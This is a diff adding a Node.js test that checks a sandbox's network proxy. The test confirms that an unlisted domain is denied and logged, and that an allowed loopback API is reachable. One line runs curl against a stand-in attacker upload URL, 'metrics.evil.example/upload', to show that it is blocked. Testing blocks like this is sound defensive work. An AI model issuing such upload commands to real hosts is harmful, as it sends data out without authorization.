@@ -74,3 +74,32 @@ test('host processes are invisible: the sandbox has its own pid namespace', asyn
   assert.ok(count <= 5, r.stdout);
   assert.equal(fs.existsSync(`/proc/${process.pid}`), true); // control: the host's view
 });
+
+test('net proxy: an unlisted domain is denied (event recorded); an allowed one goes through (control)', async () => {
+  const http = await import('node:http');
+  const srv = http.createServer((q, s) => s.end(`host says ${q.url}`)).listen(0, '127.0.0.1');
+  await new Promise((r) => srv.once('listening', r));
+  const { port } = srv.address();
+  try {
+    // The host-side server stands in for an allowed API: a static address
+    // on the host's loopback, allowed explicitly. Nothing leaves the machine.
+    const sb = new Sandbox({
+      allowDomain: [`api.local.test:${port}`],
+      resolve: ['api.local.test:127.0.0.1'],
+      allowPrivate: ['127.0.0.1/32'],
+    });
+    const denied = await sb.run(['curl', '-sS', '-m', '5', 'https://metrics.evil.example/upload']);
+    assert.notEqual(denied.exitCode, 0);
+    const d = denied.events.find((e) => e.host === 'metrics.evil.example');
+    assert.equal(d.decision, 'denied');
+    assert.equal(d.reason, 'not-allowed');
+    assert.equal(d.address, null, 'a denied name is never resolved');
+    const ok = await sb.run(['curl', '-sS', '-m', '5', `http://api.local.test:${port}/hi`]);
+    assert.equal(ok.stdout, 'host says /hi', ok.output);
+    const a = ok.events.find((e) => e.decision === 'allowed');
+    assert.equal(a.host, 'api.local.test');
+    assert.equal(a.address, `127.0.0.1:${port}`);
+  } finally {
+    srv.close();
+  }
+});
